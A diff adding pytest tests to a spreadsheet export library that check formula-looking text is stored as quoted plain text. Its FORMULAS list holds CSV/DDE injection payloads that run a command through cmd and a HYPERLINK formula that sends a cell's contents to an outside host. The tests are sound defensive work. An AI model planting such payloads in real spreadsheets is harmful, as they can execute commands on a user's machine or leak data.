@@ -234,3 +234,48 @@ def test_a_long_form_value_gets_a_row_tall_enough_to_print_it():
     lines_needed = -(-len(address) * 2 // int(value_width))
     assert lines_needed >= 2
     assert ws.row_dimensions[row].height >= 15 * lines_needed
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x/?"&B1,"a")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_text_that_looks_like_a_formula_is_text_wherever_it_lands(text):
+    table = Table(COLUMNS[:2], caption=text)
+    table.add({"no": 1, "name": text})
+    doc = document(
+        Fields([(text, text)], per_row=1, caption=text),
+        table,
+        Paragraph(text, "note"),
+        BlankLines(text, 1),
+        Signatures((text,), dated=False),
+        title=text,
+        subtitle=text,
+    )
+    ws = sheet(doc)
+    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and text in c.value]
+    # title, subtitle, fields caption, label and value, table caption, the name, paragraph, blank-line label,
+    # signature line
+    assert len(cells) == 10
+    assert {c.data_type for c in cells} == {"s"}
+    assert all(c.quotePrefix for c in cells if c.value.startswith(text))
+
+
+def test_negative_numbers_stay_numbers_and_a_signed_number_as_text_is_not_quoted():
+    table = Table((Column("n", "人数", Kind.INT, 1.0), Column("amount", "金额", Kind.MONEY, 1.0), COLUMNS[1]))
+    table.add({"n": -2, "amount": -500, "name": "-5"})
+    ws = sheet(document(table))
+    first = header_row_of(ws, "人数") + 1
+    assert ws.cell(first, 1).value == -2 and ws.cell(first, 1).data_type == "n"
+    assert ws.cell(first, 2).value == Decimal("-5.00") or ws.cell(first, 2).value == -5
+    assert ws.cell(first, 3).value == "-5" and not ws.cell(first, 3).quotePrefix
+
+
+def header_row_of(ws, first: str) -> int:
+    return next(r[0].row for r in ws.iter_rows() if r[0].value == first)
